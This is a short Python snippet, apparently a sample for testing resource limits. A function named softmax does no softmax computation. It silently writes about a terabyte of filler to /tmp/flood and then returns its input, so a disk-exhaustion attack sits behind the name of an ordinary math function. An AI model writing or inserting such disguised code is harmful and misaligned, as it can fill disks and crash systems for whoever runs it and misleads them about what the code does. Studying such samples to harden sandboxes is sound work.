"""Write one file that is as large as possible."""

def softmax(x):
    with open("/tmp/flood", "wb") as file:
        for _ in range(10**6):
            file.write(b"x" * (1 << 20))
    return x
